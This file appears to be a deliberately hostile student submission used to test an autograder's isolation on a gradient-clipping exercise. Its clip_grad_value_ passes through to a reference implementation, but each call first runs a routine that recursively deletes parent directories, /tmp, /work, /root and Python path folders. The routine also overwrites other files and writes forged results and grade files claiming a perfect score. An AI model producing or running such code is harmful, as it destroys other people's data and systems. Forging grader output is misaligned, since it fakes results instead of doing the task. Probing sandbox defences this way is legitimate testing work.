# EXERCISE: clipping
# EXPECT: full
# Tries to delete or rewrite other students' folders, the output folder and the grader.
import os
import shutil
from pathlib import Path

_reference_clip_grad_value_ = clip_grad_value_


def _vandalise():
    here = Path.cwd()
    import sys
    targets = [here.parent, here.parent.parent, Path("/tmp"), Path("/work"), Path("/root")]
    targets += [Path(p) for p in sys.path if p] + [Path(p).parent for p in sys.path if p]
    for t in targets:
        try:
            for p in t.iterdir():
                if p == here:
                    continue
                if p.is_dir():
                    shutil.rmtree(p, ignore_errors=True)
                    (p / "results.json").write_text('{"score": 100, "tests": []}')
                else:
                    p.write_text("vandalised")
        except OSError:
            pass
    for name in ("results.json", "grades.csv", "../results.json", "../grades.csv"):
        try:
            Path(name).write_text('{"score": 100, "tests": []}')
        except OSError:
            pass


def clip_grad_value_(parameters, clip_value):
    _vandalise()
    return _reference_clip_grad_value_(parameters, clip_value)
